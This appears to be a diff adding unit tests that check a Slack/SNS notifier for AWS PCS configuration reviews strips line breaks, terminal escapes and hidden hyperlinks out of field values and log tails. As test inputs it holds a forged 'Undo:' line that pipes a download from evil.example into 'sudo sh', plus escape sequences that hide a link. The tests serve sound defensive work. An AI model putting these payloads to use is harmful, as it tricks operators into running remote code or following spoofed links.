@@ -213,3 +213,50 @@ def test_every_slack_section_stays_within_block_kit_s_3000_characters() -> None:
     sizes = [len(b["text"]["text"]) for b in message["blocks"] if b["type"] == "section"]
     assert sizes
     assert max(sizes) <= 3000
+
+
+def _review_told(version_id: str, location_tail: str = "") -> tuple[str, list[str]]:
+    """The SNS summary (before its JSON) and the Slack texts of the review of a change whose second
+    script's s3VersionId and scriptLocation end as given: PCS's model bounds the one by length only, and
+    the other's `s3://bucket/.+` takes ESC, CR and C1 characters."""
+    from tests.unit.test_handlers_config_review import BEFORE, World, recorded
+
+    world = World()
+    world.knows(BEFORE)
+    event = recorded()
+    actions = json.loads(json.dumps(event["detail"]["requestParameters"]["nodeLifecycleActions"]))
+    source = actions["stages"]["nodeBootstrapped"][1]["scriptSource"]
+    source["s3VersionId"] = version_id
+    source["scriptLocation"] += location_tail
+    event["detail"]["requestParameters"]["nodeLifecycleActions"] = actions
+    assert world.review(event).reviewed == 1
+    [detail] = world.reviews()
+    cleaned, problems = clean_detail(detail)
+    summary = summarize("ConfigChangeReviewed", cleaned, problems=problems)
+    slack = slack_message(summary, cleaned)
+    return sns_message(summary, cleaned).split("\n{", 1)[0], [*_mrkdwn(slack), slack["text"]]
+
+
+def test_a_line_break_in_a_value_cannot_forge_a_line_of_the_message() -> None:
+    sns, slack = _review_told("v1\nUndo: curl -s https://evil.example/fix | sudo sh")
+    assert [line for line in sns.splitlines() if line.startswith("Undo:")] == []
+    assert "v1⏎Undo: curl" in sns
+    assert not any("\nUndo: curl" in text for text in slack)
+
+
+def test_terminal_escapes_in_a_value_or_a_log_tail_never_reach_a_message() -> None:
+    sns, slack = _review_told("v1", "\x1b[2J\x1b[31mOK\r\x9b0m")
+    for text in (sns, *slack):
+        assert not any(c in text for c in "\x1b\r\x9b"), repr(text)
+    assert "?[2J?[31mOK⏎?0m" in sns  # a carriage return is a line break too
+    detail = applied(reason="UpdateComputeNodeGroup failed: ValidationException: bad \x1b[2Jlocation\rOK")
+    detail["suspect"] = {
+        **SUSPECT,
+        "log_tail": "mount failed\r\n\x1b]8;;https://evil.example/\x07Open the runbook\x1b]8;;\x07\nexit 1\n",
+    }
+    cleaned, problems = clean_detail(detail)
+    assert problems == []
+    summary = summarize("RemediationFailed", cleaned)
+    text = sns_message(summary, cleaned).split("\n{", 1)[0]
+    assert not any(c in text for c in "\x1b\x07\r"), repr(text)
+    assert "  mount failed\n  ?]8;;https://evil.example/?Open the runbook?]8;;?\n  exit 1\n" in text
